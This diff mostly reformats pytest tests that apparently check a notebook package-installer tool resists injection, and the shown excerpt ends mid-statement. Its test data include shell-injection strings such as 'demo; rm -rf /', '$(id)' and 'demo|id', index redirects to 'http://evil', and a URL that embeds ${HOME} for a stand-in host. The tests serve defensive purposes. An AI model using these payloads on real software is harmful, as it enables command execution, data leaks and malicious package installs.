@@ -21,7 +21,11 @@ SECRETS = ("LD_PRELOAD", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "UV_INDEX_
 
 @pytest.mark.parametrize("place", ["beside", "above"])
 def test_no_configuration_near_the_notebook_is_obeyed(
-    cli: Cli, index: LocalIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: str  # noqa: F811
+    cli: Cli,
+    index: LocalIndex,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    place: str,
 ) -> None:
     folder = tmp_path / "above" / "work"
     folder.mkdir(parents=True)
@@ -40,7 +44,9 @@ def test_no_configuration_near_the_notebook_is_obeyed(
         assert said.code == 0, said.err
         assert evil.hits == []
     lock = block_in(notebook).lock
-    assert lock and {"demo": "2.0", "demo-dep": "1.1"}.items() <= {row.name: row.version for row in lock.packages}.items()
+    assert (
+        lock and {"demo": "2.0", "demo-dep": "1.1"}.items() <= {row.name: row.version for row in lock.packages}.items()
+    )
 
 
 def test_a_tool_sees_nothing_of_the_environment_that_it_has_no_need_of(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -54,10 +60,22 @@ def test_a_tool_sees_nothing_of_the_environment_that_it_has_no_need_of(monkeypat
 
 @pytest.mark.parametrize(
     "word",
-    ["demo; rm -rf /", "$(id)", "`id`", "demo && id", "demo # x", "demo\n--index-url http://evil", "x @ https://h/${HOME}", "demo|id"],
+    [
+        "demo; rm -rf /",
+        "$(id)",
+        "`id`",
+        "demo && id",
+        "demo # x",
+        "demo\n--index-url http://evil",
+        "x @ https://h/${HOME}",
+        "demo|id",
+    ],
 )
 def test_no_word_is_for_a_shell(
-    cli: Cli, index: LocalIndex, tmp_path: Path, word: str  # noqa: F811
+    cli: Cli,
+    index: LocalIndex,
+    tmp_path: Path,
+    word: str,
 ) -> None:
     notebook = made(tmp_path / "a.ipynb", "1")
     before = notebook.read_bytes()
@@ -66,9 +84,14 @@ def test_no_word_is_for_a_shell(
     assert notebook.read_bytes() == before and index.hits == []
 
 
-@pytest.mark.parametrize("line", ["--index-url http://evil/", "--extra-index-url=http://evil/", "-f http://evil/", "--pre", "-i http://evil"])
+@pytest.mark.parametrize(
+    "line", ["--index-url http://evil/", "--extra-index-url=http://evil/", "-f http://evil/", "--pre", "-i http://evil"]
+)
 def test_a_requirements_file_gives_no_options(
-    cli: Cli, index: LocalIndex, tmp_path: Path, line: str  # noqa: F811
+    cli: Cli,
+    index: LocalIndex,
+    tmp_path: Path,
+    line: str,
 ) -> None:
     notebook = made(tmp_path / "a.ipynb", "1")
     (tmp_path / "r.txt").write_text(f"demo\n{line}\n")
@@ -82,7 +105,10 @@ def test_a_requirements_file_gives_no_options(
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no such files here")
 @pytest.mark.parametrize("kind", ["fifo", "folder", "passwd", "device", "loop"])
 def test_what_is_no_ordinary_file_is_not_read(
-    cli: Cli, settings: Settings, tmp_path: Path, kind: str  # noqa: F811
+    cli: Cli,
+    settings: Settings,
+    tmp_path: Path,
+    kind: str,
 ) -> None:
     path = tmp_path / "a.ipynb"
     {
